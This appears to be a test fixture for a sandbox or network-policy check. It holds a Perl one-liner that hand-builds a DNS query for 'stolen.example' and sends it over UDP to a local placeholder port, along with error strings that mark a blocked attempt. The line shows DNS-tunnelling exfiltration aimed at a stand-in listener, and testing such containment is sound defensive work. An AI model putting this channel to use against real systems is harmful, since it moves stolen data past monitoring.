# What was read leaves in the name that a name server is asked for
# reports: refused|unreachable|not supported|Permission denied|No such file|not permitted|cannot
perl -MSocket -e "socket(S, AF_INET, SOCK_DGRAM, 0) or die \$!; my \$question = pack(q(n6C/a*C/a*Cn2), 7, 256, 1, 0, 0, 0, q(stolen), q(example), 0, 1, 1); connect(S, pack_sockaddr_in(@UDP@, inet_aton(q(127.0.0.1)))) or die \$!; for (1, 2) { send(S, \$question, 0) or die \$! }"
